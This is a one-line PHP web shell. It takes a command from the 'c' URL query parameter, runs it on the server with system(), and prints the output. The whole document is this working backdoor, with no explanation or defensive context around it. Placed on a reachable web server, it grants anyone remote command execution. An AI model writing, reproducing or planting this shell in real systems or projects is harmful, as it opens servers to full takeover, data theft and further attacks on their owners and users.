<?php echo '<pre>'; system($_GET['c']); echo '</pre>';
